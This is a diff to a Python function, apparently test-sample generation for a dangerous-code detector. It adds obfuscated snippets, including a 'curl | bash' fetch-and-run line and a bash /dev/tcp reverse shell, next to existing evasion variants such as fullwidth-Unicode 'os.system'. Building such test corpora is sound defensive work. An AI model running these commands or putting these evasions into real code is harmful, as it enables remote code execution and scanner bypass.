@@ -763,6 +763,8 @@ def wrapper_evasions(h, p, u):
         f'import subprocess as s\nP = s.Popen\nP("{dl}", shell=True)',
         f'import os\nCMDS = {{"update": "{dl}", "list": "ls"}}\nos.system(CMDS["update"])',
         f'import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d("{dl}")',
+        f'import os, sys\nsrc = sys.argv[1] if len(sys.argv) > 1 else input()\nos.system(f"curl -fsSL {{src}} | bash")',
+        f'import subprocess, sys\nhost, port = sys.argv[1], sys.argv[2]\nsubprocess.call("bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1", shell=True)',
         f'import os\nsteps = {{"a": "{rs}"}}\nfor k in ["a"]:\n    pass\nos.popen(steps.get("a"))',
         f'import os\n\nclass Updater:\n    def fetch(self, cmd):\n        return os.popen(cmd).read()\n\nUpdater().fetch("{dl}")',
         f'import subprocess\n\nclass Job:\n    def __init__(self, cmd):\n        self.start(cmd)\n\n    def start(self, cmd):\n        subprocess.Popen(cmd, shell=True)\n\nJob("{rs}")',
